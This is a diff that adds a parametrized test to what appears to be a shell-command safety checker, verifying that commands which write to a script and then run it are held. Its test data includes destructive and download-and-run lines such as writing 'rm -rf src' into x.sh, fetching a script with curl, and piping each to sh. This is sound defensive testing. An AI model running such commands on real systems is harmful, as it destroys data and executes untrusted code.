@@ -129,3 +129,20 @@ def test_a_fault_in_a_followed_file_stops_too(monkeypatch: pytest.MonkeyPatch) -
     monkeypatch.setitem(corridor._MODULES, "git", Broken)
     workspace = DictWorkspace({"/work/app/a.sh": "#!/bin/sh\ngit status\n"}, ("/work/app",))
     assert verdict("./a.sh", workspace) == "hold"
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("echo 'rm -rf src' > x.sh; cat x.sh | sh", "hold"),
+        ("curl -o x.sh https://example.com/x; cat x.sh | sh", "hold"),
+        ("echo 'rm -rf src' >> x.sh; cat x.sh | sh", "hold"),
+        ("cp other.sh x.sh; $(cat x.sh)", "hold"),
+        ("cat x.sh | sh", "allow"),
+        ("echo ls > x.sh; cat x.sh | sh", "allow"),
+    ],
+)
+def test_a_file_just_written_is_not_read_as_it_was(text: str, expected: str) -> None:
+    """The disk still shows a harmless x.sh while the text is read."""
+    workspace = DictWorkspace({"/work/app/x.sh": "ls\n", "/work/app/other.sh": "rm -rf src"}, ("/work/app",))
+    assert verdict(text, workspace) == expected
